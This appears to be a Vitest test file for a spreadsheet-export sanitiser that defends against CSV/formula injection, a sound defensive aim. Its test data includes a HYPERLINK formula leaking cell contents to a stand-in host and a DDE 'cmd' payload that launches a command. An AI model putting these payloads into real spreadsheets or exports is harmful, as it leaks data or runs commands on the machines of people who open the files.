import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { safeCell, safeRow, startsLikeFormula } from '../../api/spreadsheet/safe-cell.js';

describe('spreadsheet cells (OWASP CSV injection)', () => {
  it('neutralises text that begins with = + - @, a tab or a carriage return with a leading quote', () => {
    for (const value of [
      '=HYPERLINK("http://evil.invalid?x="&A1,"点我")',
      '+1',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1',
      '\r=1',
      ' =1+1',
    ]) {
      expect(startsLikeFormula(value), JSON.stringify(value)).toBe(true);
      expect(safeCell(value)).toBe(`'${value}`);
    }
  });

  it('leaves safe text, numbers, booleans, dates and blanks unchanged', () => {
    const date = new Date('2025-03-01T08:00:00Z');
    for (const value of ['王芳', 'wang.fang', 'a=b', 'li@demo.invalid', '1+1', '', 'O’Brien']) {
      expect(startsLikeFormula(value), value).toBe(false);
      expect(safeCell(value)).toBe(value);
    }
    expect(safeRow([-2, 3.5, true, date, null, undefined])).toEqual([-2, 3.5, true, date, null, undefined]);
  });

  it('gives ExcelJS rows whose cells are text, never formulas', async () => {
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('教师').addRow(safeRow(["=cmd|' /C calc'!A0", '+1', 42]));
    const read = new ExcelJS.Workbook();
    await read.xlsx.load(await workbook.xlsx.writeBuffer());
    const row = read.worksheets[0]!.getRow(1);
    expect([row.getCell(1).value, row.getCell(2).value, row.getCell(3).value]).toEqual([
      "'=cmd|' /C calc'!A0",
      "'+1",
      42,
    ]);
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
  });
});
